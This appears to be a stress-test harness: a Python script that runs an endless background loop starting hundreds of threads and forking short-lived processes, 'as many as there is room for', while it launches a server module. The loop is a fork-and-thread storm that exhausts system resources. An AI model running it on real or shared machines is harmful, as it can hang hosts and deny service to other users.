"""Starts threads in C, in clones and in processes, as many as there is room for, and ends them at once."""

import honest_server
import _thread
import os
import threading


def storm():
    while True:
        try:
            for _ in range(500):
                _thread.start_new_thread(lambda: None, ())
            if os.fork() == 0:
                os._exit(0)
            os.waitpid(-1, os.WNOHANG)
        except (OSError, RuntimeError):
            threading.Event().wait(0.01)


threading.Thread(target=storm, daemon=True).start()

honest_server.main()
